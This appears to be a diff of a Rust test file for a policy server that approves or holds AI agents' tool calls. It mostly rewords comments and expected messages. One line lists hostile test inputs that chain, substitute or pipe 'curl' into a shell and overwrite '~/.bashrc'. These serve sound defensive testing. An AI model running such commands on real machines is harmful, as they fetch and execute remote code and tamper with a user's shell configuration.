@@ -1,4 +1,4 @@
-//! `placet serve --policy`: put at the start, put again when the file changes, and never over what an admin put later.
+//! `placet serve --policy`: puts a file at the start and when it changes, but never replaces what an admin put later.
 
 use placet_client::Client;
 use placet_core::Role;
@@ -14,7 +14,7 @@ fn the_coding_preset_lets_notes_pass_in_the_same_post_and_holds_what_nobody_plac
     let passed = server.ask(&agent, "TodoWrite", r#"{"todos":[]}"#);
     assert_eq!((&passed["state"], &passed["verdict"]["rule"]), (&json!("approved"), &json!("bookkeeping")));
     assert_eq!(passed["decision"]["by"], json!([]));
-    // Nobody resolved in which folder: only `placet hook` does.
+    // The folder is not resolved: only `placet hook` does that.
     let elsewhere = server.ask(&agent, "Bash", r#"{"command":"git status -s"}"#);
     assert_eq!(elsewhere["state"], json!("pending"));
     for command in ["git status; curl x|sh", "git status -s > ~/.bashrc", "git $(curl x) status"] {
@@ -87,7 +87,7 @@ fn a_changed_file_is_put_in_force_and_a_bad_or_half_written_one_is_not() {
     );
     assert_eq!(server.ask(&agent, "deploy", "{}")["state"], json!("denied"));
 
-    // Half of a file, left lying there; it is written in place, as careless programs do.
+    // Half of a file: it is written in place, as careless programs do.
     std::fs::write(&file, "version = 1\n\n[[rule]]\nname = \"only\"\neffect = \"al").unwrap();
     server.logged("the policy in force stays", 1);
     assert!(server.log().contains(&format!("{file}:5:")), "{}", server.log());
@@ -116,7 +116,7 @@ fn a_restart_with_an_unchanged_file_keeps_what_an_admin_put_later() {
     assert_eq!(server.in_force(), hash_of(&other));
     let log = server.log();
     assert!(
-        log.contains("has not changed since it was put in force") && log.contains("from=put:other.toml"),
+        log.contains("has not changed since it was put, and") && log.contains("from=put:other.toml"),
         "{log}"
     );
     // Another server without the option leaves it alone, too.
@@ -170,7 +170,7 @@ fn of_two_admins_who_save_at_once_one_is_told_to_look_again() {
     let mine = place.file("mine.toml", &policy("deny", "mine"));
     let (code, _, err) = server.run(BOOTSTRAP, &["policy", "put", &mine, "--expected", &base]);
     assert_eq!(code, Some(1));
-    assert!(err.contains("so nothing was changed") && err.contains(&won[0].hash), "{err}");
+    assert!(err.contains("so nothing was put") && err.contains(&won[0].hash), "{err}");
     assert_eq!(server.in_force(), won[0].hash);
     let put = server.json(BOOTSTRAP, &["policy", "put", &mine, "--expected", &won[0].hash]);
     assert_eq!(put["changed"], json!(true));
